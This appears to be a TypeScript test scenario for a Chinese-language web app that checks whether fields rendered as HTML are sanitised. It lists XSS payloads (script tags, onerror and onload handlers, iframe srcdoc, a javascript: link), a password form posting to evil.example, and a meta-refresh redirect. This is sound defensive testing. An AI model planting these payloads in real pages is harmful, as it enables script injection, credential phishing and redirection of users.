import type { Scenario } from './scenario'

/** HTML that an attacker, or a careless editor, could enter. `pwned` must never be set. */
const hostile = [
  '<script>window.pwned=1</script>',
  '<img src="data:image/png;base64,AAAA" onerror="window.pwned=1">',
  '<svg onload="window.pwned=1"></svg>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<a href="javascript:window.pwned=1">点我领奖</a>',
  '<form action="https://evil.example"><input name="password" placeholder="请输入密码"><button>登录</button></form>',
  '<style>body{display:none}</style>',
  '<div id="root" style="position:fixed;inset:0;background:red;z-index:9999">遮住一切</div>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<p>正文仍应<strong>正常显示</strong></p>',
].join('')

/** The same as plain text: shown as written. */
const plain = '<img src="data:image/png;base64,AAAA" onerror="window.pwned=1">标题'

export default {
  name: 'hostile-html',
  group: '异常',
  title: '恶意 HTML',
  story: '每个按 HTML 显示的字段都带有脚本、事件、框架和表单：正文应正常显示，其余都不生效',
  look: '优惠详情只有「正文仍应正常显示」等文字，没有输入框、红色遮罩和弹窗，点「点我领奖」什么都不发生。再看首页弹窗、帮助、消息、赞助和工单。',
  from: 'member',
  open: '/activityInfo?id=101',
  world: {
    site: { webcontent: hostile, index_modal: 1 },
    rows: {
      promotions: [{ id: '101', title: plain, content: hostile, memo: hostile }],
      sponsors: [{ id: '201', name: plain, title: plain, content: hostile }],
      articles: ['1', '2', '3', '4', '5', '6', '7', '8'].map((id) => ({ id, content: hostile })),
      notices: [
        { id: 'n1', title: plain, content: hostile },
        { id: 'm1', title: plain, content: hostile },
      ],
      homeNotices: [{ id: 'h1', text: plain }],
      tickets: [{ id: '1012', title: plain, content: hostile }],
    },
  },
} satisfies Scenario
